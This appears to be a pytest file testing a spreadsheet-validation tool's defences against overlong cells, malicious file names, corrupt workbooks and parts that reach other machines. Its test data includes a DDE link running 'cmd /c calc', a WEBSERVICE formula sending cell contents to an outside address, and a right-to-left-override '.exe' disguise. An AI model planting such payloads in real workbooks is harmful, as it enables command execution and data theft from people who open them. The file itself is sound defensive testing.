"""Attacks of the third hour: cells without end, folders of rubbish, packages that two readers see differently."""

from __future__ import annotations

import itertools
import os
import pickle
import random
import sys
from pathlib import Path
from typing import Any

import pytest
from attack.districts import DISTRICT
from sheets import xlsx

from xltools.app.mark import leads_elsewhere
from xltools.app.validate import validate
from xltools.cli import run as xltools
from xltools.errors import InputRefused
from xltools.files.records import Malformed, read_json, text
from xltools.files.refusals import corrupt
from xltools.formats.opening import open_book
from xltools.forms.inputs import Request
from xltools.ledger.invoices import _Invoice
from xltools.office.opc import pack, unpack

LONGEST = 32_767


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_cell_longer_than_excels_is_cut_and_that_is_said(kind: str, tmp_path: Path) -> None:
    rows = [["甲" * LONGEST, "乙" * (LONGEST + 1)], ["短", "丙=" * LONGEST]]
    path = tmp_path / f"表.{kind}"
    if kind == "csv":
        path.write_text("\n".join(",".join(row) for row in rows), encoding="utf-8")
    else:
        path.write_bytes(xlsx("\n".join(f"| {' | '.join(row)} |" for row in rows)))
    (grid,) = open_book(path).grids
    assert [len(str(value)) for _, _, value in grid.cells()] == [LONGEST, LONGEST, 1, LONGEST]
    (cut,) = [warning for warning in grid.warnings if warning.code == "text_cut"]
    assert (cut.cells, cut.facts) == (("B1", "B2"), {"count": 2})
    found = [one for one in validate(Request(paths=(str(path),))).report.files[0].findings if one.rule == "text_cut"]
    assert [(one.sheet, one.cells) for one in found] == [(grid.name, ("B1", "B2"))]
    assert "没有检查" in found[0].message


NAMES = (b"\xb2\xe2.xlsx", "长".encode() * 83 + b"a.xlsx", b"aux.xlsx", b"a:b|<c>.xlsx", b"\n\x1b[31m.xlsx", "\u202exslx.exe.xlsx".encode())
"""No UTF-8, the longest that a file system takes, a device, a stream, a line break and ESC, right to left."""


@pytest.fixture
def badly_named(tmp_path: Path) -> Path:
    """A folder of good files under bad names, and one under a good name."""
    home = tmp_path / "收件"
    home.mkdir()
    for place, name in enumerate((*NAMES, "好.xlsx".encode())):
        data = xlsx(DISTRICT.replace("示例甲", f"示例{'甲乙丙丁戊己庚'[place]}"))
        (home / os.fsdecode(name)).write_bytes(data)
    return home


@pytest.mark.slow
@pytest.mark.skipif(sys.platform != "linux", reason="no such names on this system")
@pytest.mark.parametrize(
    "command",
    [
        "validate {home} --notice hubei-2022 --mark {out}/标注 --log {out}.log -o {out}.html",
        "merge {home} --notice hubei-2022 --level city -o {out}.xlsx",
        "receive {home} --notice hubei-2022 --level city -o {out} --no-letters",
        "handin add {out}.jsonl {home} --notice hubei-2022 --level city",
        "draft {home} -o {out}",
        "repair {home} --accept all -o {out}",
        "package {home} --notice wuhan-2025 --receipt {out}.json",
    ],
)
def test_a_bad_name_costs_that_file_at_most(command: str, badly_named: Path, tmp_path: Path, capfd: Any) -> None:
    arguments = [part.format(home=badly_named, out=tmp_path / "出") for part in command.split()]
    assert xltools(arguments) in (0, 1)
    said = capfd.readouterr()
    assert "Traceback" not in said.err
    assert "\x1b[31m" not in said.out + said.err
    written = [path for path in tmp_path.rglob("*") if badly_named not in (path, path.parent)]
    assert all(len(os.fsencode(path.name)) <= 255 and path.name.isprintable() for path in written)


def test_a_refusal_says_in_which_sheet_and_cell(tmp_path: Path) -> None:
    parts = unpack(xlsx("# 甲\n| 1 |\n# 乙\n| a |\n| | 12.5 |"))
    parts["xl/worksheets/sheet2.xml"] = parts["xl/worksheets/sheet2.xml"].replace(b"<v>12.5</v>", b"<v>12,5</v>")
    path = tmp_path / "坏.xlsx"
    path.write_bytes(pack(parts, keep_order=True))
    with pytest.raises(InputRefused) as refused:
        open_book(path)
    assert (refused.value.code, refused.value.sheet, refused.value.cell) == ("corrupt", "乙", "B2")
    assert str(refused.value).startswith(f"文件“{path}”的工作表“乙”：单元格 B2：数值单元格的内容 '12,5' 不是数字。")
    (file,) = validate(Request(paths=(str(path),))).report.files
    assert (file.refusal and file.refusal.sheet, file.refusal and file.refusal.cell) == ("乙", "B2")
    again = pickle.loads(pickle.dumps(corrupt("坏", cell="A1")))
    assert (again.code, again.what, again.cell) == ("corrupt", "坏", "A1")


INVESTMENT = """
# 附件6
| 申报企业（盖章）：武汉示例甲有限公司 | | | | | 单位：万元 |
| 序号 | 投资类别 | 设备（费用）名称 | 供应商 | 发票号码 | 开票日期 | 含税金额 |
"""
ROWS = {
    "one number": "| {0} | 生产性设备购置 | 机床{0} | 供应商 | '12345678 | 2024-01-05 | 1.5 |",
    "one number, many sellers": "| {0} | 生产性设备购置 | 机床 | 供应商{0}有限公司 | '12345678 | 2024-01-05 | 1.5 |",
    "sums alone": "| 小计 | | | | | | {0} |",
    "a sum below each row": "| {0} | 生产性设备购置 | 机床 | 甲 | '{0:08d} | 2024-01-05 | 1.5 |\n| 小计 | | | | | | {0} |",
}


def calls_for(rows: int, line: str, path: Path) -> int:
    """How often Python calls anything, generators resumed included: grows as time does, and is the same on every machine."""
    path.write_bytes(xlsx(INVESTMENT + "\n".join(line.format(number) for number in range(1, rows + 1))))
    count = itertools.count()
    sys.setprofile(lambda _frame, event, _argument: next(count) if event == "call" else None)
    try:
        validate(Request(paths=(str(path),), notice="wuhan-2025"))
    finally:
        sys.setprofile(None)
    return next(count)


@pytest.mark.slow
@pytest.mark.parametrize("line", ROWS)
def test_rows_made_to_be_compared_with_each_other_cost_what_they_are(line: str, tmp_path: Path) -> None:
    calls_for(10, ROWS[line], tmp_path / "表.xlsx")
    few, many = (calls_for(rows, ROWS[line], tmp_path / "表.xlsx") for rows in (600, 1800))
    assert many < 4 * few


def test_rows_of_one_number_go_together_as_if_each_were_held_against_each() -> None:
    """By the definition: a row joins the first invoice of which it contradicts no row."""
    random.seed(1)
    for _ in range(300):
        told = [(random.choice(["", "甲", "乙"]), random.choice(["", "丙", "丁", "戊"])) for _ in range(7)]
        groups: list[list[tuple[str, str]]] = []
        made: list[_Invoice] = []
        for code, seller in told:
            group = next((one for one in groups if all(_alike((code, seller), other) for other in one)), None)
            found = next((one for one in made if one.takes(code, seller)), None)
            assert (group is None) == (found is None)
            if group is None or found is None:
                group, found = [], _Invoice()
                groups.append(group)
                made.append(found)
            assert made.index(found) == [id(one) for one in groups].index(id(group))
            group.append((code, seller))
            found.add(object(), code, seller)  # type: ignore[arg-type]  # any row


def _alike(one: tuple[str, str], other: tuple[str, str]) -> bool:
    if one[0] and other[0]:
        return one[0] == other[0]
    return not (one[1] and other[1]) or one[1] == other[1]


@pytest.mark.parametrize(
    ("part", "data", "leads"),
    [
        ("xl/connections.xml", b'<connections><connection><webPr url="http://192.0.2.1/"/></connection></connections>', True),
        ("xl/connections.xml", b"<connections/>", False),
        ("xl/externalLinks/externalLink1.xml", b'<x:ddeLink ddeService="cmd" ddeTopic="/c calc"/>', True),
        ("xl/worksheets/sheet9.xml", b'<f>WEBSERVICE("http://192.0.2.1/"&amp;A1)</f>', True),
        ("xl/worksheets/sheet9.xml", b'<f>DISPIMG("ID_1",1)</f>', False),
        ("xl/sharedStrings.xml", b"<t>WEBSERVICE(</t>", False),
    ],
)
def test_what_asks_another_machine_is_told_of_a_marked_copy(part: str, data: bytes, leads: bool, tmp_path: Path) -> None:
    path = tmp_path / "副本.xlsx"
    path.write_bytes(pack({**unpack(xlsx("| 1 |")), part: data}, keep_order=True))
    assert leads_elsewhere(path) is leads


def test_half_a_sign_is_no_text_of_a_record() -> None:
    for half in ("\\ud800", "\\udc00", "\\udfff"):
        with pytest.raises(Malformed):
            text(read_json(f'"区{half}"'))
    assert text(read_json('"\\udcb2\\ud83d\\ude00"')) == "\udcb2😀", "a byte of a name that is no UTF-8; a pair"
